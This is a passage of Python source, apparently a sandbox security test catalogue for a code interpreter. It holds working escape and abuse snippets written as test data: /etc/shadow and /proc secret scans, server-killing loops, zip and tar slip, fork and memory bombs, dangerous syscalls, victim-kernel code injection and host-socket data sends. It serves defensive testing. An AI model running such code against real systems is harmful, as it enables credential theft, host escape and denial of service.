"""The attack catalogue: what hostile code (or a hostile request) tries, and what must hold.

Data, not tests: `engine.security.runner` runs it at any isolation level and tells, case by
case, whether the sandbox held. Each case is one of:

- `code`: a cell run in the attacked session, a `string.Template` over the arena's names
  (`$secret_path`, `$tcp_port`, `$victim_workspace`... see `Arena.values` and the runner);
  `followup`, when set, runs in a brand-new session after the attacked one was closed (is
  anything left behind?);
- `request`: a coroutine acting on the host side (an upload with an odd name, a download of a
  planted link through the engine or `airlock exec --out`), given a `CaseContext`.

`check` looks at the `Evidence` (outputs, what the host's listeners received, what landed in
the host's shared folders, whether the stand-in server is alive) and says held or breached.
Every case is also held to the runner's health checks: the host process and a victim session
started before the attack keep working, the victim's files stay intact, and the attacked
session either works or was restarted with a reason.
"""

from __future__ import annotations

import asyncio
import contextlib
import enum
import io
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from sandbox import AsyncSession, Execution, IsolationLevel, Limits, WorkspaceError

from .arena import Arena

if TYPE_CHECKING:
    from engine.store import Store


class Category(enum.StrEnum):
    SENSITIVE = "sensitive information exposure"
    FILESYSTEM = "filesystem manipulation"
    NETWORK = "external communication"
    DANGEROUS = "dangerous operations"
    RESOURCES = "resource exhaustion"
    INTERPRETER = "code interpreter specific"


@dataclass(frozen=True)
class Verdict:
    held: bool
    detail: str


@dataclass
class Evidence:
    """What the runner saw of one case."""

    arena: Arena
    level: IsolationLevel
    executions: list[Execution] = field(default_factory=list)
    followups: list[Execution] = field(default_factory=list)
    #: What the host side of a `request` case observed (downloaded bytes, errors...).
    host_output: str = ""
    #: Host-side findings a request wants checked as breaches.
    host_breaches: list[str] = field(default_factory=list)
    received: list[tuple[str, bytes]] = field(default_factory=list)
    dropped: list[str] = field(default_factory=list)
    leftovers: list[str] = field(default_factory=list)
    server_alive: bool = True
    secret_intact: bool = True

    @property
    def output(self) -> str:
        """Every output of every cell, error text included, and the host side's output."""
        parts: list[str] = [self.host_output]
        for execution in (*self.executions, *self.followups):
            parts.append(execution.logs)
            parts += [d.text or "" for d in execution.displays]
            if execution.error is not None:
                parts.append(f"{execution.error.name}: {execution.error.value}")
        return "\n".join(parts)

    @property
    def stdout(self) -> str:
        return "\n".join(e.stdout for e in (*self.executions, *self.followups))

    def breach_lines(self) -> list[str]:
        return [line.strip() for line in self.stdout.splitlines() if line.startswith("BREACH")]


def standard(evidence: Evidence) -> Verdict:
    """Held unless the canary showed, the code reported a BREACH, a listener got data,
    something landed in the host's shared folders, or the server or its secret was harmed."""
    problems: list[str] = []
    if evidence.arena.canary in evidence.output:
        problems.append("a host secret (the canary) reached the code's output")
    problems += evidence.breach_lines()[:5]
    problems += evidence.host_breaches
    if evidence.received:
        where = sorted({w for w, _ in evidence.received})
        problems.append(f"the host's listeners received data ({', '.join(where)})")
    if evidence.dropped:
        problems.append(f"files landed in a world-writable host folder: {evidence.dropped[:3]}")
    if evidence.leftovers:
        problems.append(f"files landed in the host's shared folders: {evidence.leftovers[:3]}")
    if not evidence.server_alive:
        problems.append("the server process was killed")
    if not evidence.secret_intact:
        problems.append("a host file was modified")
    return Verdict(not problems, "; ".join(problems) or "held")


def error_named(*names: str) -> Callable[[Evidence], Verdict]:
    """Standard, and the (first) cell must have failed with one of `names`."""

    def check(evidence: Evidence) -> Verdict:
        verdict = standard(evidence)
        if not verdict.held:
            return verdict
        error = evidence.executions[0].error if evidence.executions else None
        if error is None or error.name not in names:
            got = error.name if error else "no error"
            return Verdict(False, f"expected {'/'.join(names)}, got {got}")
        return Verdict(True, f"{error.name}: {error.value}"[:160])

    return check


def output_capped(evidence: Evidence) -> Verdict:
    verdict = standard(evidence)
    size = sum(len(e.logs) for e in evidence.executions)
    if size > 4 * 1024 * 1024:
        return Verdict(False, f"{size} bytes of output kept")
    return verdict if not verdict.held else Verdict(True, f"{size} bytes of output kept")


@dataclass
class CaseContext:
    """What a `request` case gets: the stage, the level, and the attacked session (its code,
    if any, has run already)."""

    arena: Arena
    level: IsolationLevel
    session: AsyncSession | None
    limits: Limits
    values: dict[str, str]
    #: Opens an engine on the arena's store at this level: `async with ctx.engine(items)`.
    engine: Callable[[list[dict[str, str]]], contextlib.AbstractAsyncContextManager[Any]]


Request = Callable[[CaseContext], Awaitable[Evidence | None]]
#: Where `engine` and `sandbox` can be imported from, for the subprocesses cases start.
_REPO = Path(__file__).resolve().parents[2]
Applies = Callable[[IsolationLevel], str | None]


@dataclass(frozen=True)
class AttackCase:
    id: str
    category: Category
    description: str
    code: str | None = None
    request: Request | None = None
    check: Callable[[Evidence], Verdict] = standard
    #: Code run in a fresh session after the attacked one ended (persistence checks).
    followup: str | None = None
    #: Destructive: run in a session of its own, closed afterwards.
    fresh: bool = False
    #: Seconds the attack's cell may run.
    timeout: float = 15.0
    #: Says why the case does not apply at a level (None: it does).
    applies: Applies | None = None


# -- helpers shared by the attack code ---------------------------------------------------------

#: Prepended to every attack cell: `attempt(label, fn)` prints BREACH when fn succeeds.
PRELUDE = '''\
def attempt(label, fn):
    try:
        value = fn()
    except BaseException as exc:
        print('blocked', label, type(exc).__name__, str(exc)[:100])
        return None
    print('BREACH', label, repr(value)[:200])
    return value
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sys_call(label, nr, *args):
    result = libc.syscall(nr, *args)
    if result < 0:
        print('blocked', label, os.strerror(ctypes.get_errno()))
    else:
        print('BREACH', label, 'returned', result)
    return result
'''


def _not_root_none(level: IsolationLevel) -> str | None:
    """Signals to everything the kernel's uid may reach would hit the test run itself when
    Airlock is not root (level none runs kernels as Airlock's own uid)."""
    if level is IsolationLevel.NONE and os.geteuid() != 0:
        return "not run: at level none without root the kernel shares Airlock's uid (breach)"
    return None


def _read(label: str, path: str) -> str:
    return f"attempt({label!r}, lambda: open({path!r}, 'rb').read()[:400])\n"


# -- request cases: the host side --------------------------------------------------------------

async def _host_reads(ctx: CaseContext, name: str) -> Evidence:
    """After the code planted `name`, the host reads and copies it as downloads do."""
    evidence = Evidence(ctx.arena, ctx.level)
    assert ctx.session is not None
    seen: list[str] = []
    try:
        data = await asyncio.wait_for(asyncio.to_thread(ctx.session.read_file, name), 10)
        seen.append(f"read_file: {data[:200]!r}")
    except (WorkspaceError, OSError) as exc:
        seen.append(f"read_file refused: {exc}")
    except TimeoutError:
        evidence.host_breaches.append("the host hung reading a planted file")
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "copy"
        try:
            await asyncio.wait_for(asyncio.to_thread(ctx.session.copy_file_out, name, target), 10)
            seen.append(f"copy_file_out: {target.read_bytes()[:200]!r}")
        except (WorkspaceError, OSError) as exc:
            seen.append(f"copy_file_out refused: {exc}")
        except TimeoutError:
            evidence.host_breaches.append("the host hung copying a planted file")
    evidence.host_output = "\n".join(seen)
    return evidence


def _host_reads_case(name: str) -> Request:
    async def request(ctx: CaseContext) -> Evidence:
        return await _host_reads(ctx, name)

    return request


async def _upload_through_link(ctx: CaseContext) -> Evidence:
    evidence = Evidence(ctx.arena, ctx.level)
    assert ctx.session is not None
    try:
        ctx.session.put_file("sub/planted.txt", b"must not land on the host")
        evidence.host_output = "put_file accepted"
    except (WorkspaceError, OSError) as exc:
        evidence.host_output = f"put_file refused: {exc}"
    return evidence


def _output_files_with(store: Store, canary: str, known: set[str]) -> list[str]:
    leaked = []
    for file in store.list_files(purpose="assistants_output", limit=10000).data:
        if file.id in known:
            continue
        with store.open_file_content(file.id) as handle:
            if canary.encode() in handle.read():
                leaked.append(f"{file.id} ({file.filename})")
    return leaked


def _engine_download(setup: str, link: str) -> Request:
    """A run whose code plants a link and whose answer links it: the stored output files must
    not hold the host file's content."""

    async def request(ctx: CaseContext) -> Evidence:
        from engine.schemas import AssistantCreate, CodeInterpreterTool, RunCreate, ThreadCreate

        evidence = Evidence(ctx.arena, ctx.level)
        code = PRELUDE + _template(setup, ctx.values)
        items = [{"code": code},
                 {"text": f"Here it is: [the file](sandbox:/mnt/data/{link})"}]
        async with ctx.engine(items) as engine:
            store = engine.store
            known = {f.id for f in store.list_files(purpose="assistants_output",
                                                    limit=10000).data}
            assistant = store.create_assistant(AssistantCreate(
                model="scripted", tools=[CodeInterpreterTool()]))
            thread = store.create_thread(ThreadCreate())
            body = RunCreate.model_validate({
                "assistant_id": assistant.id,
                "additional_messages": [{"role": "user", "content": "get me the file"}]})
            handle = await engine.create_run(thread.id, body)
            run = await asyncio.wait_for(handle.wait(), 120)
            leaked = _output_files_with(store, ctx.arena.canary, known)
            steps = store.list_run_steps(thread.id, run.id, order="asc", limit=100).data
            logs = [o.logs for s in steps if s.type == "tool_calls"
                    for c in s.step_details.tool_calls
                    for o in c.code_interpreter.outputs
                    if o.type == "logs"]
        if leaked:
            evidence.host_breaches.append(f"the host file was stored as run output: {leaked}")
        evidence.host_output = f"run {run.status}; " + "\n".join(logs)
        return evidence

    return request


def _exec_out(code: str) -> Request:
    """`airlock exec --out DIR` on code that plants links: DIR must not receive host files."""

    def run(ctx: CaseContext) -> Evidence:
        evidence = Evidence(ctx.arena, ctx.level)
        with tempfile.TemporaryDirectory(prefix="airlock-security-out-") as folder:
            out = Path(folder) / "out"
            cell = Path(folder) / "cell.py"
            cell.write_text(PRELUDE + _template(code, ctx.values))
            command = [sys.executable, "-c", "from engine.cli import main; main()", "exec",
                       "--isolation", str(ctx.level), "--timeout", "30", "--memory", "1024",
                       "--out", str(out), str(cell)]
            result = subprocess.run(command, capture_output=True, text=True, timeout=180,
                                    cwd=_REPO)
            copied = []
            for path in sorted(out.rglob("*")) if out.exists() else []:
                if path.is_symlink():
                    evidence.host_breaches.append(f"--out made a link: {path.name}")
                elif path.is_file():
                    copied.append(f"{path.name}: {path.read_bytes()[:200]!r}")
            evidence.host_output = (f"exit {result.returncode}\n{result.stdout[-2000:]}\n"
                                    f"{result.stderr[-1000:]}\ncopied: {copied}")
            if result.returncode == 2:
                evidence.host_breaches.append(f"airlock exec refused: {result.stderr[-300:]}")
        return evidence

    async def request(ctx: CaseContext) -> Evidence:
        return await asyncio.to_thread(run, ctx)

    return request


async def _name_in_time(staging: Any, filename: str, file_id: str,
                        seconds: float = 5.0) -> str | None:
    """The name staging would pick, found in a forked child first: a name the engine loops on
    forever must not hang the runner. None when it did not finish in time."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.close(read)
            os.write(write, staging._free_name(filename, file_id).encode(errors="replace"))
        finally:
            os._exit(0)
    os.close(write)
    try:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if os.waitpid(pid, os.WNOHANG)[0]:  # noqa: ASYNC222 - WNOHANG: never blocks
                return os.read(read, 65536).decode(errors="replace")
            await asyncio.sleep(0.05)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)  # noqa: ASYNC222 - just SIGKILLed: reaped at once
        return None
    finally:
        os.close(read)


def _upload(filename: str) -> Request:
    """An upload with a hostile name, stored and then staged into the session as the engine
    does: it must be refused or land inside /mnt/data, and nothing may be written elsewhere."""

    async def request(ctx: CaseContext) -> Evidence:
        from engine.sessions import ThreadSession
        from engine.store import StoreError

        evidence = Evidence(ctx.arena, ctx.level)
        assert ctx.session is not None
        async with ctx.engine([]) as engine:
            store = engine.store
            files_dir = store.data_dir / "files"
            before = {p.name for p in store.data_dir.rglob("*")}
            try:
                file = store.create_file(io.BytesIO(b"uploaded,data\n"),
                                         _template(filename, ctx.values), "assistants")
            except StoreError as exc:
                evidence.host_output = f"refused by the store: {exc}"
                return evidence
            after = {p.relative_to(store.data_dir).as_posix()
                     for p in store.data_dir.rglob("*")}
            strays = [p for p in after if p.split("/")[-1] not in before
                      and not p.startswith("files/") and not p.startswith("airlock.db")]
            if strays:
                evidence.host_breaches.append(f"the upload wrote outside files/: {strays}")
            if "/" in file.filename or file.filename in ("", ".", ".."):
                evidence.host_breaches.append(f"stored with an unsafe name {file.filename!r}")
            if not (files_dir / file.id).is_file():
                evidence.host_breaches.append("the content is not under files/")
            staging = ThreadSession("thread_attack", ctx.session)
            if await _name_in_time(staging, file.filename, file.id) is None:
                store.delete_file(file.id)
                evidence.host_breaches.append(
                    "staging never ends: ThreadSession._free_name loops on this name (the "
                    "engine's event loop would hang)")
                return evidence
            try:
                staged = staging.stage(store, [file.id])
            except (WorkspaceError, OSError) as exc:
                evidence.host_output = f"stored as {file.filename!r}; staging refused: {exc}"
                if not isinstance(exc, WorkspaceError):
                    evidence.host_breaches.append(
                        f"staging raised {type(exc).__name__}, not a WorkspaceError: {exc}")
                return evidence
            finally:
                store.delete_file(file.id)
            for item in staged:
                inside = item.path.startswith("/mnt/data/") and "/" not in item.path[10:]
                if not inside:
                    evidence.host_breaches.append(f"staged at {item.path!r}")
                try:
                    content = ctx.session.read_file(item.path)
                except WorkspaceError as exc:
                    evidence.host_breaches.append(f"staged file unreadable: {exc}")
                    continue
                if content != b"uploaded,data\n":
                    evidence.host_breaches.append("the staged file's content differs")
            evidence.host_output = (f"stored as {file.filename!r}, staged at "
                                    f"{[s.path for s in staged]}")
        return evidence

    return request


_SERVER = """\
import os, sys, threading, time, uvicorn
def _leave_with_the_runner(parent=os.getppid()):
    while os.getppid() == parent:
        time.sleep(0.5)
    os._exit(1)
threading.Thread(target=_leave_with_the_runner, daemon=True).start()
from engine.engine import Engine
from engine.server import create_app
from engine.settings import EngineSettings
from sandbox import IsolationLevel, Limits, SandboxConfig
level, data_dir, model, port, key = sys.argv[1:6]
settings = EngineSettings(sandbox=SandboxConfig(
    isolation=IsolationLevel(level), limits=Limits(timeout=20, memory_mb=1024)))
async def open_engine():
    return await Engine.open(model, data_dir, settings=settings)
uvicorn.run(create_app(open_engine, api_key=key), host='127.0.0.1', port=int(port),
            log_level='warning')
"""

#: Run through the REST server: everything a cell can do to its server from inside.
_KILL_THE_SERVER = """\
import glob, signal
me = os.getpid()
for path in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        command = open(path, 'rb').read()
        pid = int(path.split('/')[2])
    except (OSError, ValueError):
        continue
    environ = b''
    try:
        environ = open(f'/proc/{pid}/environ', 'rb').read()
    except OSError:
        pass
    if b'AIRLOCK-CANARY' in environ:
        print('BREACH read the environment of', pid, environ[:300])
    if b'AIRLOCK-CANARY' in command:
        print('BREACH read the command line of', pid, command[:300])
    if pid != me and (b'uvicorn' in command or b'create_app' in command):
        attempt(f'kill server {pid}', lambda: os.kill(pid, signal.SIGKILL))
attempt('kill ppid', lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt('kill 1', lambda: os.kill(1, signal.SIGKILL))
"""


def _free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


async def _api_server(ctx: CaseContext) -> Evidence:
    """A real server (uvicorn, its own process, the canary in its environment): a victim
    thread runs first; then a run whose code tries to kill the server and read its
    environment, and an upload named with ../; then the server must answer, the victim thread
    must run again, and nothing of the server's may show in the attack's outputs."""
    import json

    import httpx

    evidence = Evidence(ctx.arena, ctx.level)
    folder = Path(tempfile.mkdtemp(prefix="api-", dir=ctx.arena.root))
    key = f"sk-{ctx.arena.canary}"

    def model(name: str, items: list[dict[str, str]]) -> str:
        path = folder / f"{name}.json"
        path.write_text(json.dumps(items))
        return f"scripted:{path}"

    victim = model("victim", [{"code": "print(6 * 7)"}, {"text": "42"}])
    attack = model("attack", [{"code": PRELUDE + _KILL_THE_SERVER}, {"text": "done"}])
    port = _free_port()
    env = {"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": key, "HOME": str(folder)}
    server = await asyncio.create_subprocess_exec(
        sys.executable, "-c", _SERVER, str(ctx.level), str(folder / "data"), victim, str(port),
        key, env=env, cwd=str(_REPO),
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    headers = {"Authorization": f"Bearer {key}", "OpenAI-Beta": "assistants=v2"}
    try:
        async with httpx.AsyncClient(base_url=base, headers=headers, timeout=30) as http:
            for _ in range(600):
                with contextlib.suppress(httpx.HTTPError):
                    if (await http.get("/health")).status_code == 200:
                        break
                if server.returncode is not None:
                    raise RuntimeError("the server did not start")
                await asyncio.sleep(0.1)

            async def run(thread: str, assistant: str, prompt: str) -> dict[str, Any]:
                await http.post(f"/v1/threads/{thread}/messages",
                                json={"role": "user", "content": prompt})
                started = (await http.post(f"/v1/threads/{thread}/runs",
                                           json={"assistant_id": assistant})).json()
                for _ in range(1200):
                    got: dict[str, Any] = (await http.get(
                        f"/v1/threads/{thread}/runs/{started['id']}")).json()
                    if got["status"] not in ("queued", "in_progress", "cancelling"):
                        steps = (await http.get(
                            f"/v1/threads/{thread}/runs/{started['id']}/steps")).json()
                        got["logs"] = "\n".join(
                            o.get("logs", "") for step in steps["data"]
                            if step["type"] == "tool_calls"
                            for call in step["step_details"]["tool_calls"]
                            for o in call["code_interpreter"]["outputs"])
                        return got
                    await asyncio.sleep(0.1)
                raise TimeoutError(f"run on {thread} did not end")

            tools = [{"type": "code_interpreter"}]
            victim_assistant = (await http.post("/v1/assistants", json={
                "model": victim, "tools": tools})).json()["id"]
            attack_assistant = (await http.post("/v1/assistants", json={
                "model": attack, "tools": tools})).json()["id"]
            victim_thread = (await http.post("/v1/threads", json={})).json()["id"]
            attack_thread = (await http.post("/v1/threads", json={})).json()["id"]
            first = await run(victim_thread, victim_assistant, "compute")
            upload = (await http.post("/v1/files", data={"purpose": "assistants"}, files={
                "file": (f"../../../../..{ctx.arena.drop_dir}/evil.csv", b"a,b\n")})).json()
            attacked = await run(attack_thread, attack_assistant, "attack")
            evidence.host_output = (f"upload stored as {upload.get('filename')!r}\n"
                                    f"attack run {attacked['status']}:\n{attacked['logs']}")
            if server.returncode is not None:
                evidence.host_breaches.append("the server process died")
                return evidence
            health = await http.get("/health")
            again = await run(victim_thread, victim_assistant, "compute")
            if health.status_code != 200:
                evidence.host_breaches.append(f"the server's health is {health.status_code}")
            if first["status"] != "completed" or again["status"] != "completed" \
                    or "42" not in again["logs"]:
                evidence.host_breaches.append(
                    f"the victim thread's run failed after the attack: {again['status']} "
                    f"{again.get('last_error')}")
            if "/" in str(upload.get("filename", "")):
                evidence.host_breaches.append(f"upload kept a path: {upload.get('filename')}")
    except httpx.HTTPError as exc:
        evidence.host_breaches.append(f"the server stopped answering: {exc!r}")
    finally:
        if server.returncode is None:
            server.terminate()
            try:
                await asyncio.wait_for(server.wait(), 30)
            except TimeoutError:
                server.kill()
                await server.wait()
    return evidence


def _template(code: str, values: dict[str, str]) -> str:
    from string import Template

    return Template(code).substitute(values)


# -- the catalogue -----------------------------------------------------------------------------

SI, FS, NET, DO, RES, CI = (Category.SENSITIVE, Category.FILESYSTEM, Category.NETWORK,
                            Category.DANGEROUS, Category.RESOURCES, Category.INTERPRETER)

_PROC_SCAN = '''\
import glob
found = []
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        data = open(path, 'rb').read()
    except OSError:
        continue
    if b'AIRLOCK-CANARY' in data:
        found.append(path)
        print('BREACH', path, data.replace(b'\\0', b' ')[:300])
print('scanned, found', len(found))
'''

_SYSCALLS = {
    "bpf": "sys_call('bpf map create', 321, 0, ctypes.create_string_buffer(b'\\2\\0\\0\\0' + "
           "b'\\4\\0\\0\\0' * 2 + b'\\1\\0\\0\\0' + b'\\0' * 112), 128)",
    "keyctl": "sys_call('add_key', 248, b'user', b'airlock', b'secret', 6, -3)",
    "perf": "sys_call('perf_event_open', 298, ctypes.create_string_buffer(b'\\1\\0\\0\\0' + "
            "(128).to_bytes(4, 'little') + b'\\0' * 120), 0, -1, -1, 0)",
    "io_uring": "sys_call('io_uring_setup', 425, 4, ctypes.create_string_buffer(120))",
    "userfaultfd": "sys_call('userfaultfd', 323, 1)",
    "reboot": "sys_call('reboot', 169, 0xfee1dead, 672274793, 0x4321fedc, 0)",
    "init_module": "sys_call('init_module', 175, b'\\0' * 64, 64, b'')",
    "unshare_user": "sys_call('unshare(CLONE_NEWUSER)', 272, 0x10000000)",
    "unshare_mount": "sys_call('unshare(CLONE_NEWNS)', 272, 0x00020000)",
    "setns": "fd = os.open('/proc/self/ns/mnt', os.O_RDONLY)\nsys_call('setns', 308, fd, 0)",
    "mount": "sys_call('mount tmpfs', 165, b'none', b'/mnt/data', b'tmpfs', 0, None)",
    "ptrace_self": "sys_call('ptrace(PTRACE_TRACEME)', 101, 0, 0, 0, 0)",
    "chroot": "sys_call('chroot', 161, b'/mnt/data')",
}


def _ptrace(pid: str) -> str:
    return f"sys_call('ptrace(PTRACE_ATTACH, {pid})', 101, 16, {pid}, 0, 0)\n"


def _persist(write: str, check: str) -> tuple[str, str]:
    return write, check


_TAR_SYMLINK = '''\
import io, tarfile
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode='w') as tar:
    link = tarfile.TarInfo('escape'); link.type = tarfile.SYMTYPE; link.linkname = '$drop_dir'
    tar.addfile(link)
    data = b'written through a link member'
    member = tarfile.TarInfo('escape/tar-symlink-$marker'); member.size = len(data)
    tar.addfile(member, io.BytesIO(data))
buffer.seek(0)
os.makedirs('/mnt/data/tarout', exist_ok=True)
with tarfile.open(fileobj=buffer) as tar:
    for member in tar.getmembers():
        try:
            tar.extract(member, '/mnt/data/tarout', filter='fully_trusted')
        except Exception as exc:
            print('blocked', member.name, type(exc).__name__, exc)
if os.path.exists('$drop_dir/tar-symlink-$marker'):
    print('BREACH landed on the host')
'''

_TAR_ABSOLUTE = '''\
import io, tarfile
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode='w') as tar:
    for name in ('$drop_dir/tar-absolute-$marker', '../../../../../../$drop_dir/tar-dotdot-$marker',
                 '/tmp/$marker-tar'):
        data = b'escaped'
        member = tarfile.TarInfo(name); member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
buffer.seek(0)
os.makedirs('/mnt/data/tarout', exist_ok=True)
with tarfile.open(fileobj=buffer) as tar:
    for member in tar.getmembers():
        # A naive extractor: joins the member's name to the folder as it is.
        target = os.path.normpath(os.path.join('/mnt/data/tarout', member.name))
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, 'wb') as out:
                out.write(tar.extractfile(member).read())
            print('wrote', target)
        except OSError as exc:
            print('blocked', target, type(exc).__name__)
'''

_TAR_HARDLINK = '''\
import io, tarfile
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode='w') as tar:
    link = tarfile.TarInfo('copy.txt'); link.type = tarfile.LNKTYPE; link.linkname = '$secret_path'
    tar.addfile(link)
buffer.seek(0)
with tarfile.open(fileobj=buffer) as tar:
    try:
        tar.extractall('/mnt/data/hardout', filter='fully_trusted')
        print(open('/mnt/data/hardout/copy.txt').read())
    except Exception as exc:
        print('blocked', type(exc).__name__, exc)
'''

_ZIP_SLIP = '''\
import io, zipfile
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, 'w') as z:
    z.writestr('../../../../../../$drop_dir/zip-slip-$marker', 'escaped')
    z.writestr('$drop_dir/zip-absolute-$marker', 'escaped')
    z.writestr('../../../../../../tmp/$marker-zip', 'escaped')
os.makedirs('/mnt/data/zipout', exist_ok=True)
with zipfile.ZipFile(buffer) as z:
    z.extractall('/mnt/data/zipout')  # zipfile's own extraction
    for name in z.namelist():  # and a naive one
        target = os.path.normpath(os.path.join('/mnt/data/zipout', name))
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            open(target, 'w').write('escaped')
            print('wrote', target)
        except OSError as exc:
            print('blocked', target, type(exc).__name__)
'''

_FORK_BOMB = '''\
import os, time
children = 0
deadline = time.time() + 4
while time.time() < deadline:
    try:
        if os.fork() == 0:
            time.sleep(6)
            os._exit(0)
        children += 1
    except OSError as exc:
        print('fork refused after', children, type(exc).__name__)
        break
'''

_THREAD_BOMB = '''\
import threading, time
event = threading.Event()
threads = []
try:
    for _ in range(100000):
        t = threading.Thread(target=event.wait); t.start(); threads.append(t)
except RuntimeError as exc:
    print('thread refused after', len(threads), exc)
event.set()
'''

_MEMORY_CHILDREN = '''\
import os, time
pids = []
for _ in range(4):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # each child stays under its own RLIMIT_AS, together far past the session's
        got, blocks = 0, []
        try:
            while got < 500:
                block = bytearray(50 * 1024 * 1024)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                blocks.append(block)
                got += 50
        except MemoryError:
            pass
        time.sleep(3)  # all four hold their memory at once now; then say how much, if alive
        os.write(write, b'.' * (got // 50))
        os._exit(0)
    os.close(write)
    pids.append((pid, read))
total, statuses = 0, []
for pid, read in pids:
    statuses.append(os.waitpid(pid, 0)[1])
    while chunk := os.read(read, 4096):
        total += 50 * len(chunk)
print('children held', total, 'MB at once; statuses', statuses)
if total > 1.25 * $memory_mb:
    print('BREACH the session held', total, 'MB')
'''

_TMP_FILL = '''\
written = 0
try:
    for i in range(20):
        with open(f'/tmp/$marker-fill-{i}', 'wb') as out:
            for _ in range(16):
                out.write(b'0' * (1024 * 1024))
                written += 1024 * 1024
except OSError as exc:
    print('stopped', type(exc).__name__, exc)
print('wrote MB', written // 2**20)
if written > 200 * 2**20:
    print('BREACH wrote', written // 2**20, 'MB into /tmp')
'''

_SHM_FILL = '''\
written = 0
try:
    with open('/dev/shm/$marker-fill', 'wb') as out:
        for _ in range(1200):
            out.write(b'0' * (1024 * 1024))
            written += 1024 * 1024
except OSError as exc:
    print('stopped', type(exc).__name__, exc)
print('wrote MB', written // 2**20)
if written >= 1200 * 2**20:
    print('BREACH wrote', written // 2**20, 'MB into /dev/shm')
'''

_FD_BOMB = '''\
handles = []
try:
    while True:
        handles.append(open('/dev/null'))
except OSError as exc:
    print('refused after', len(handles), exc.strerror)
'''

_DAEMON = '''\
import subprocess, sys, os
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', '$marker-daemon'],
                     start_new_session=True)
    os._exit(0)
os.wait()
import time; time.sleep(0.5)
print('spawned')
'''

_VICTIM_SOCKETS = '''\
import glob, json, socket
for path in glob.glob('$victim_run_dir/*'):
    print('visible', path)
for port in range(1, 6):
    path = '$victim_run_dir/k-%d' % port
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(path)
        print('BREACH connected to', path)
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
attempt('read the connection file', lambda: json.load(open('$victim_connection_file'))['key'])
'''

_INJECT = '''\
from jupyter_client import BlockingKernelClient
client = BlockingKernelClient()
try:
    client.load_connection_file('$victim_connection_file')
    client.start_channels()
    reply = client.execute_interactive(
        "open('/mnt/data/injected.txt', 'w').write('pwned')", timeout=5)
    print('BREACH ran code in the victim', reply['content']['status'])
except Exception as exc:
    print('blocked', type(exc).__name__, str(exc)[:100])
'''

_LOCAL_INDEX_PIP = '''\
import subprocess, sys
result = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', '--no-cache-dir',
                         '--target', '/mnt/data/site', '--index-url',
                         'http://127.0.0.1:$tcp_port/simple', '--timeout', '3', '--retries', '0',
                         'airlock-attack-pkg'], capture_output=True, text=True, timeout=60)
print('pip exit', result.returncode, result.stderr[-300:])
'''

_INTERNET = '''\
import socket
attempt('tcp to 1.1.1.1:80', lambda: socket.create_connection(('1.1.1.1', 80), timeout=3).close())
attempt('tcp to [2606:4700:4700::1111]:80',
        lambda: socket.create_connection(('2606:4700:4700::1111', 80), timeout=3).close())
'''

_RUN_SOCKETS = '''\
import os, socket, stat
for top in ('/run', '/var/run', '/tmp', '/var/tmp', '/dev/shm'):
    for folder, _dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    continue
            except OSError:
                continue
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                sock.connect(path)
                print('BREACH connected to host socket', path)
                sock.sendall(b'exfil')
            except OSError as exc:
                print('blocked', path, type(exc).__name__)
            finally:
                sock.close()
'''

CASES: tuple[AttackCase, ...] = (
    # -- sensitive information exposure -------------------------------------------------------
    AttackCase("read-host-secret", SI, "read a world-readable host file outside the sandbox",
               _read("host secret", "$secret_path")),
    AttackCase("read-root-only-file", SI, "read a host file readable by its owner only",
               _read("root-only file", "$root_only_path")),
    AttackCase("read-etc-shadow", SI, "read /etc/shadow", _read("/etc/shadow", "/etc/shadow")),
    AttackCase("kernel-environment", SI, "look for the host's secrets in the kernel's own "
               "environment (the runner exports the canary)",
               "print(sorted(os.environ.items()))\n"
               "print(open('/proc/self/environ', 'rb').read())"),
    AttackCase("proc-server-environ", SI, "read the server process's environment via /proc",
               _read("server environ", "/proc/$server_pid/environ")),
    AttackCase("proc-server-cmdline", SI, "read the server process's command line via /proc",
               _read("server cmdline", "/proc/$server_pid/cmdline")),
    AttackCase("proc-scan-secrets", SI, "scan every /proc/*/environ and cmdline for secrets",
               _PROC_SCAN),
    AttackCase("proc-host-processes", SI, "see host processes in /proc (the server's pid)",
               "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
               "print(len(pids), 'pids')\n"
               "if '$server_pid' in pids or '$runner_pid' in pids:\n"
               "    print('BREACH the host server is visible, pid $server_pid')"),
    AttackCase("store-database", SI, "read the engine store's SQLite database",
               _read("store database", "$store_db")),
    AttackCase("store-file-content", SI, "read another user's uploaded file in the store",
               _read("store file", "$store_file")),
    AttackCase("store-listing", SI, "list the engine's data folder",
               "attempt('list the data folder', lambda: os.listdir('$data_dir'))"),
    AttackCase("victim-workspace", SI, "read another session's /mnt/data file",
